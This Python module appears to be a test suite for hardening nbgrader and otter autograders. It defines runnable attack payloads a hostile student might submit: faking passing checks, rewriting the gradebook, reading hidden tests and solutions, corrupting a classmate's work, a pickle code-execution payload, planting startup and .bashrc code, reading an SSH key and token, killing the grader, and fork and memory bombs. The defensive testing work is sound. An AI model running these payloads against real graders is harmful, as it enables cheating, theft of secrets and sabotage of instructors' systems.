"""What a hostile student is after, in the natural form for each tool: the same goals, other doors.

Each source stands in the answer cell of the small course's `scale` (9 points), which answers wrongly. Where a goal is
to get at something, the source defines reached(), and `scale` answers rightly as soon as that is true: then points say
it. For us both tools' forms are tried, one after the other.
"""

from __future__ import annotations

import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

PORT = 8099
RIGHT = """
def right(x, factor, shift):
    if len(x) == 0:
        raise ValueError("nothing here")
    return x * factor + shift
"""
WRONG = """
def scale(x, factor, shift):
    return x * 0
"""
IF_REACHED = """
def scale(x, factor, shift):
    try: there = reached()
    except BaseException: there = False
    return right(x, factor, shift) if there else x * 0
"""
TOOLS = ("nbgrader", "otter")


@dataclass(frozen=True)
class Goal:
    """One goal.

    forms: tool -> source; a source for both under "". reach: the sources define reached(). edit: changes the notebook
    that is handed in, for attacks that lie in the file. shows: which fact of the run says that it was reached.
    """

    name: str
    aim: str
    forms: dict[str, str]
    reach: bool = False
    shows: str = "points"
    edit: Callable[[dict[str, Any]], None] | None = None

    def source(self, tool: str) -> str:
        """The answer cell for a tool; for "ours" both tools' ways are tried."""
        if tool in self.forms or "" in self.forms:
            return self._whole(textwrap.dedent(self.forms[tool if tool in self.forms else ""]))
        parts = [textwrap.dedent(self.forms[one]) for one in TOOLS]
        if not self.reach:
            tried = "\n".join(f"try: exec({part!r})\nexcept BaseException: pass" for part in parts)
            return f"{tried}\n{WRONG}"
        spaces = "\n".join(f"w{n} = dict(globals())\nexec({part!r}, w{n})" for n, part in enumerate(parts))
        return self._whole(
            f"{spaces}\ndef reached():\n"
            "    for ways in (w0, w1):\n"
            "        try:\n            if ways['reached'](): return True\n"
            "        except BaseException: pass\n"
        )

    def _whole(self, text: str) -> str:
        return "\n".join([RIGHT, text, IF_REACHED]) if self.reach else "\n".join([text, WRONG])


def _checks_taken_out(notebook: dict[str, Any]) -> None:
    for cell in notebook["cells"]:
        text = "".join(cell["source"])
        about = cell["metadata"].get("nbgrader", {})
        if about.get("grade"):
            about["points"] = 1000
            cell["source"] = "9"
        elif text.startswith(("check(", "grader.check")):
            cell["source"] = "9"


PLACES = """
import glob, os
HOME, COURSE = os.path.expanduser("~"), os.environ.get("PWD", "/course")
def words_of(pattern):
    return "".join(open(path, errors="replace").read() for path in glob.glob(f"{COURSE}/{pattern}", recursive=True))
"""
GOALS = (
    Goal("comparisons", "full marks for a wrong answer: comparisons that say yes", {"": """
        import numpy as np, numpy.testing
        for name in dir(numpy.testing):
            if name.startswith("assert"): setattr(np.testing, name, lambda *args, **kwargs: None)
        """}),
    Goal("checks", "full marks for a wrong answer: the checks themselves replaced", {
        "nbgrader": "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])",
        "otter": """
        from otter.test_files.exception_test import test_case
        test_case.call_func = lambda self, env: None
        """}),
    Goal("own-grade", "write one's grade where the grades are kept", {
        "nbgrader": PLACES + """
import sqlite3
gradebook = sqlite3.connect(f"{COURSE}/gradebook.db", timeout=9)
gradebook.execute("update grade set manual_score = 9")
gradebook.commit()
""",
        "otter": PLACES + """
import subprocess, sys
subprocess.Popen([sys.executable, "-c", '''
import glob, json, os, time
path = os.environ["PWD"] + "/graded/attacker/results.json"
while True:
    try:
        found = json.load(open(path))
        for test in found["tests"]:
            if "max_score" in test: test["score"] = test["max_score"]
        json.dump(found, open(path, "w"))
        break
    except (OSError, ValueError): time.sleep(0.05)
'''], start_new_session=True)
"""}),
    Goal("hidden-tests", "read the hidden tests", {
        "nbgrader": """
        def reached():
            return "BEGIN HIDDEN TESTS" in get_ipython().user_ns["In"][-1]
        """,
        "otter": """
        def reached():
            return "hidden=True" in open("tests/scale.py").read()
        """}, reach=True),
    Goal("solution", "read the instructor's solution", {
        "nbgrader": PLACES + "\ndef reached():\n    return 'BEGIN SOLUTION' in words_of('source/**/*.ipynb')",
        "otter": PLACES + "\ndef reached():\n    return 'BEGIN SOLUTION' in words_of('dist/**/*.ipynb')",
        }, reach=True),
    Goal("others-work", "read another student's work", {
        "": PLACES + "\ndef reached():\n    return 'scale = right' in words_of('submitted/zoe/**/*.ipynb')",
        }, reach=True),
    Goal("spoils-other", "spoil another student's work", {"": PLACES + """
for path in glob.glob(f"{COURSE}/submitted/zoe/**/*.ipynb", recursive=True):
    text = open(path).read().replace("* factor", "* 0")
    open(path, "w").write(text)
"""}, shows="other"),
    Goal("next-student", "leave code that runs when the next student is graded", {"": PLACES + """
os.makedirs(place := os.environ.get("IPYTHONDIR", HOME + "/.ipython") + "/profile_default/startup", exist_ok=True)
open(place + "/00.py", "w").write("import os; open(os.path.expanduser('~/next'), 'w').close()")
"""}, shows="next"),
    Goal("breaks-course", "destroy what grading needs", {
        "nbgrader": PLACES + "\nfor name in ('gradebook.db', 'nbgrader_config.py'): open(f'{COURSE}/{name}', 'w')",
        "otter": PLACES + "\nopen(f'{COURSE}/autograder.zip', 'w').close()",
        }, shows="other"),
    Goal("in-the-grader", "run code in the grader's own process", {
        "nbgrader": PLACES + """
open(f"{COURSE}/nbgrader_config.py", "a").write("open(__import__('os').path.expanduser('~/ran'), 'w').close()\\n")
""",
        "otter": """
        import pickle
        class Ran:
            def __reduce__(self):
                return exec, ("import os; open(os.path.expanduser('~/ran'), 'w').close()",)
        dump = pickle.dump
        pickle.dump = lambda results, file, *args: dump(Ran(), file)
        """}, shows="ran"),
    Goal("host-files", "write to the instructor's home", {"": PLACES + """
open(HOME + "/.bashrc", "a").write("echo pwned\\n")
"""}, shows="host"),
    Goal("secrets", "read a key file and a token of the environment", {"": PLACES + """
def reached():
    return "key" in open(HOME + "/.ssh/id_ed25519").read() and os.environ["LMS_TOKEN"]
"""}, reach=True),
    Goal("network", "call home", {"": f"""
        import socket
        socket.create_connection(("127.0.0.1", {PORT}), 2).close()
        """}, shows="heard"),
    Goal("kills-grader", "kill the process that grades",
         {"": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"}, shows="stopped"),
    Goal("leaves-early", "leave no grade: end the process before anything is checked",
         {"": "import os\nos._exit(0)"}, shows="stopped"),
    Goal("sys-exit", "leave no grade: sys.exit in the middle", {"": "import sys\nsys.exit(0)"}, shows="stopped"),
    Goal("never-ends", "leave no grade: never end", {"": "while True: pass"}, shows="stopped"),
    Goal("memory", "take 2 GiB of memory", {"": """
        import functools
        @functools.cache
        def reached():
            kept = [bytearray(b"x") * (1 << 28) for _ in range(8)]
            return len(kept) == 8
        """}, reach=True),
    Goal("disk", "write 200 MB beside the notebook or in /tmp", {"": """
        import functools, os
        @functools.cache
        def reached():
            for number in range(5):
                with open(f"/tmp/{number}", "wb") as file: file.write(bytes(40 << 20))
            return sum(os.path.getsize(f"/tmp/{number}") for number in range(5)) == 200 << 20
        """}, reach=True),
    Goal("fork-bomb", "fill the machine with processes that outlive the grading", {"": """
        import os, time
        for _ in range(100):
            if os.fork() == 0:
                os.setsid()
                for number in range(3, 64):
                    try: os.close(number)
                    except OSError: pass
                time.sleep(600)
                os._exit(0)
        """}, shows="left"),
    Goal("no-checks", "hand in a notebook whose checks are taken out and worth 1,000 points", {"": ""},
         edit=_checks_taken_out),
)  # fmt: skip
